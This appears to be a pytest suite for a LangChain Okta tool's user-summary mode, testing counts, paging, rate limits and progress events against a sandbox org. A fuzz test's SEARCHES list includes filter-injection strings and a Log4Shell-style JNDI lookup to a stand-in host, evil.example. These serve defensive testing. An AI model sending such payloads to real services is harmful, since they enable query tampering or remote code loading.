"""okta_list_users with summary=true, as an agent calls it: what it counts, sends and streams.

On a small sandbox org of several pages; each behaviour through `invoke` and `ainvoke` where
the two paths differ.
"""

from __future__ import annotations

import asyncio
import json
import time
from collections import Counter
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.messages import ToolMessage
from langchain_core.tools import BaseTool

from langchain_okta import OktaToolkit, SummaryLimits
from langchain_okta.events import SUMMARY_PROGRESS_EVENT
from langchain_okta.sandbox import IN_PROCESS_URL, RateLimit, SandboxOrg
from langchain_okta.views import SAMPLE_COLUMNS, SUMMARY_MAX_BYTES

# More than two pages of 200 in the plain listing.
PEOPLE = 480
USERS_PATH = "/api/v1/users"
# A clock that stands still: rate-limit windows never reset, timestamps never move.
FROZEN = datetime(2026, 1, 1, tzinfo=UTC).timestamp()

Call = Callable[..., ToolMessage]


@pytest.fixture(scope="module")
def org() -> SandboxOrg:
    return SandboxOrg(users=PEOPLE, rate_limit=RateLimit(limit=100_000))


@pytest.fixture
def list_users(org: SandboxOrg) -> BaseTool:
    toolkit = OktaToolkit(IN_PROCESS_URL, org.token, transport=org.transport(), check_admin=False)
    return next(tool for tool in toolkit.get_tools() if tool.name == "okta_list_users")


@pytest.fixture(params=["invoke", "ainvoke"])
def call(request: pytest.FixtureRequest, list_users: BaseTool) -> Call:
    def call_tool(**args: Any) -> ToolMessage:
        tool_call = {"type": "tool_call", "id": "1", "name": list_users.name, "args": args}
        if request.param == "ainvoke":
            message = asyncio.run(list_users.ainvoke(tool_call))
        else:
            message = list_users.invoke(tool_call)
        assert isinstance(message, ToolMessage)
        return message

    return call_tool


def listing_requests(org: SandboxOrg, since: int) -> list[dict[str, str]]:
    return [
        dict(request.query)
        for request in org.requests[since:]
        if request.method == "GET" and request.path == USERS_PATH
    ]


def every_listed_row(call: Call, **args: Any) -> list[list[Any]]:
    """The rows of the plain listing, every page, as the model would page through them."""
    rows: list[list[Any]] = []
    cursor = None
    while True:
        page = json.loads(call(**args, limit=200, cursor=cursor).content)
        rows += page["users"]
        cursor = page["next_cursor"]
        if cursor is None:
            return rows


# -- what the model is offered ----------------------------------------------------------------


def test_the_schema_adds_one_boolean_summary_argument(list_users: BaseTool) -> None:
    assert list(list_users.args) == ["query", "search", "status", "limit", "cursor", "summary"]
    assert list_users.args["summary"]["type"] == "boolean"
    assert list_users.args["summary"]["default"] is False


def test_the_description_says_when_to_summarize_and_where_rows_come_from(
    list_users: BaseTool,
) -> None:
    description = list_users.description
    for words in ("how many", "count", "breakdown", "summary=true", "plain listing"):
        assert words in description
    assert "lower bound" in description


# -- what it counts ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        {},
        {"status": "STAGED"},
        {"status": "DEPROVISIONED"},
        {"query": "ja"},
        {"search": 'profile.department eq "Sales"', "status": "ACTIVE"},
    ],
    ids=["everyone", "status", "deprovisioned", "query", "search-and-status"],
)
def test_a_summary_counts_exactly_what_the_same_listing_lists(
    call: Call, args: dict[str, Any]
) -> None:
    rows = every_listed_row(call, **args)

    shown = json.loads(call(**args, summary=True).content)

    assert shown["complete"] is True
    assert shown["matched"] == len(rows)
    assert shown["by_status"] == Counter(row[1] for row in rows)
    assert shown["sample"] == [row[:3] for row in rows[: len(shown["sample"])]]
    assert shown["columns"] == list(SAMPLE_COLUMNS)


def test_a_summary_pages_two_hundred_at_a_time_from_the_start_whatever_the_limit(
    org: SandboxOrg, call: Call
) -> None:
    since = len(org.requests)

    message = call(search="profile.department pr", limit=5, summary=True)

    sent = listing_requests(org, since)
    assert json.loads(message.content)["matched"] > 400
    assert len(sent) == 3
    assert all(query["limit"] == "200" for query in sent)
    assert all(query["search"] == "(profile.department pr)" for query in sent)
    assert "after" not in sent[0]
    assert all("q" not in query for query in sent)


def test_a_summary_of_a_query_searches_rather_than_using_q(org: SandboxOrg, call: Call) -> None:
    since = len(org.requests)

    call(query="ja", summary=True)

    (sent,) = listing_requests(org, since)
    assert "q" not in sent
    assert sent["search"].startswith('(profile.firstName sw "ja"')


def test_a_summary_with_a_cursor_is_refused_before_anything_is_sent(
    org: SandboxOrg, call: Call
) -> None:
    since = len(org.requests)

    message = call(summary=True, cursor="00u1")

    assert message.status == "error"
    assert "leave cursor empty" in message.content
    assert listing_requests(org, since) == []


def test_the_output_is_compact_and_small(call: Call) -> None:
    message = call(summary=True)

    assert len(message.content.encode()) < SUMMARY_MAX_BYTES
    assert message.content == json.dumps(json.loads(message.content), separators=(",", ":"))


def test_a_whole_org_summary_says_it_leaves_out_deprovisioned_users(
    org: SandboxOrg, call: Call
) -> None:
    org.set_status(org.users[0]["id"], "DEPROVISIONED")

    shown = json.loads(call(summary=True).content)

    assert shown["complete"] is True
    assert "DEPROVISIONED" in shown["not_counted"]
    assert "DEPROVISIONED" not in shown["by_status"]
    # The advice it gives holds: that listing counts them.
    assert "status=DEPROVISIONED" in shown["not_counted"]
    counted = json.loads(call(summary=True, status="DEPROVISIONED").content)
    assert counted["by_status"]["DEPROVISIONED"] >= 1
    assert "not_counted" not in counted


def test_a_summary_with_a_search_leaves_nobody_out_and_says_nothing_of_it(
    org: SandboxOrg, call: Call
) -> None:
    org.set_status(org.users[0]["id"], "DEPROVISIONED")

    shown = json.loads(call(search="profile.login pr", summary=True).content)

    assert "not_counted" not in shown
    assert shown["by_status"]["DEPROVISIONED"] >= 1


def test_the_artifact_holds_the_summary_with_the_raw_sample_users(call: Call) -> None:
    message = call(status="STAGED", summary=True)

    artifact = message.artifact
    assert artifact["complete"] is True
    assert artifact["matched"] == json.loads(message.content)["matched"]
    assert len(artifact["sample"]) == 3
    assert all(user["status"] == "STAGED" for user in artifact["sample"])
    assert all("profile" in user and "_links" in user for user in artifact["sample"])


def test_an_invalid_search_gets_oktas_explanation(call: Call) -> None:
    message = call(search='profile.department = "Sales"', summary=True)

    assert message.status == "error"
    assert "The search expression is invalid" in message.content


STATUSES = ("STAGED", "ACTIVE", "DEPROVISIONED", "SUSPENDED", "active", "GONE", "")
SEARCHES = (
    'profile.department eq "Sales"',
    '" or 1 eq 1 or "',
    '") or (status pr',
    "status pr) or (id pr",
    "(((",
    'profile.login sw ""',
    "not status pr",
    "${jndi:ldap://evil.example/a}",
)
SUMMARY_KEYS = {"matched", "complete", "by_status", "columns", "sample"}


HOSTILE_SUMMARIES = st.fixed_dictionaries(
    {"summary": st.just(True)},
    optional={
        "query": st.text(max_size=12),
        "search": st.sampled_from(SEARCHES),
        "status": st.sampled_from(STATUSES),
        "limit": st.integers(min_value=-5, max_value=500),
        "cursor": st.sampled_from(("", "00u1")),
    },
)


def test_any_summary_arguments_get_a_small_answer_or_an_error_and_only_listings(
    org: SandboxOrg, list_users: BaseTool
) -> None:
    outcomes: Counter[str] = Counter()

    @settings(max_examples=150, derandomize=True, deadline=None, database=None)
    @given(args=HOSTILE_SUMMARIES)
    def check(args: dict[str, Any]) -> None:
        since = len(org.requests)
        tool_call = {"type": "tool_call", "id": "1", "name": "okta_list_users", "args": args}

        message = list_users.invoke(tool_call)

        assert message.status in ("success", "error")
        assert message.content
        outcomes[message.status] += 1
        if message.status == "success":
            shown = json.loads(message.content)
            whole_org = not any(args.get(name) for name in ("query", "search", "status"))
            assert set(shown) == SUMMARY_KEYS | ({"not_counted"} if whole_org else set())
            assert len(message.content.encode()) < SUMMARY_MAX_BYTES
            assert shown["complete"] is True
            assert shown["matched"] == sum(shown["by_status"].values())
            if args.get("status"):
                assert set(shown["by_status"]) <= {args["status"]}
        for request in org.requests[since:]:
            assert (request.method, request.path) == ("GET", USERS_PATH)
            assert {name for name, _ in request.query} <= {"search", "filter", "limit", "after"}
            assert dict(request.query)["limit"] == "200"

    check()

    assert outcomes["success"] >= 20, outcomes
    assert outcomes["error"] >= 20, outcomes


# -- the toolkit's limits ---------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["invoke", "ainvoke"])
def test_the_toolkits_summary_limits_bound_the_tool_and_it_says_so(mode: str) -> None:
    # 8 list requests per window that never resets; a quarter may go to summaries.
    org = SandboxOrg(users=PEOPLE, rate_limit=RateLimit(limit=8), clock=lambda: FROZEN)
    toolkit = OktaToolkit(
        IN_PROCESS_URL,
        org.token,
        transport=org.transport(),
        check_admin=False,
        summary_limits=SummaryLimits(rate_share=0.25),
    )
    tool = next(tool for tool in toolkit.get_tools() if tool.name == "okta_list_users")
    args = {"summary": True}

    output = asyncio.run(tool.ainvoke(args)) if mode == "ainvoke" else tool.invoke(args)

    shown = json.loads(output)
    assert shown["complete"] is False
    assert shown["matched"] == 400  # two pages: Okta then reports 6 of 8 left
    assert shown["reason"] == (
        "stopped to leave the rest of the rate limit to other calls (resets in 60 s); "
        "matched and by_status are lower bounds"
    )


# -- progress events --------------------------------------------------------------------------


class EventLog(BaseCallbackHandler):
    def __init__(self) -> None:
        self.events: list[tuple[str, Any, UUID]] = []

    def on_custom_event(self, name: str, data: Any, *, run_id: UUID, **kwargs: Any) -> None:
        self.events.append((name, data, run_id))


PROGRESS = [
    {"pages": 1, "matched": 200, "more": True},
    {"pages": 2, "matched": 400, "more": True},
]


class SlowFirstEventLog(EventLog):
    """A sync handler that takes its time over the first page's event: LangChain runs it on a
    thread pool under ainvoke, where the next event could overtake it."""

    def on_custom_event(self, name: str, data: Any, *, run_id: UUID, **kwargs: Any) -> None:
        if data["pages"] == 1:
            time.sleep(0.2)
        super().on_custom_event(name, data, run_id=run_id, **kwargs)


def test_async_page_events_arrive_in_page_order_even_when_a_handler_is_slow(
    list_users: BaseTool,
) -> None:
    log = SlowFirstEventLog()

    asyncio.run(list_users.ainvoke({"summary": True}, config={"callbacks": [log]}))

    assert [data["pages"] for _, data, _ in log.events] == [1, 2, 3]


@pytest.mark.parametrize("mode", ["invoke", "ainvoke"])
def test_each_page_is_a_custom_event_of_the_tools_run(list_users: BaseTool, mode: str) -> None:
    log = EventLog()
    config: Any = {"callbacks": [log]}
    args = {"summary": True}

    if mode == "ainvoke":
        output = asyncio.run(list_users.ainvoke(args, config=config))
    else:
        output = list_users.invoke(args, config=config)

    matched = json.loads(output)["matched"]
    assert [name for name, _, _ in log.events] == [SUMMARY_PROGRESS_EVENT] * 3
    assert [data for _, data, _ in log.events] == [
        *PROGRESS,
        {"pages": 3, "matched": matched, "more": False},
    ]
    assert len({run_id for _, _, run_id in log.events}) == 1


def test_a_streaming_ui_sees_the_progress_before_the_answer(list_users: BaseTool) -> None:
    async def stream() -> list[dict[str, Any]]:
        return [event async for event in list_users.astream_events({"summary": True})]

    events = asyncio.run(stream())

    kinds = [event["event"] for event in events]
    progress = [event["data"] for event in events if event["event"] == "on_custom_event"]
    assert progress[:2] == PROGRESS
    assert progress[-1]["more"] is False
    assert kinds.index("on_custom_event") < kinds.index("on_tool_end")
    assert {event["name"] for event in events if event["event"] == "on_custom_event"} == {
        SUMMARY_PROGRESS_EVENT
    }


def test_outside_any_run_a_summary_sends_no_events_and_still_answers(
    list_users: BaseTool,
) -> None:
    assert list_users.func is not None
    assert list_users.coroutine is not None

    content, _ = list_users.func(summary=True)
    async_content, _ = asyncio.run(list_users.coroutine(summary=True))

    assert json.loads(content)["complete"] is True
    assert async_content == content
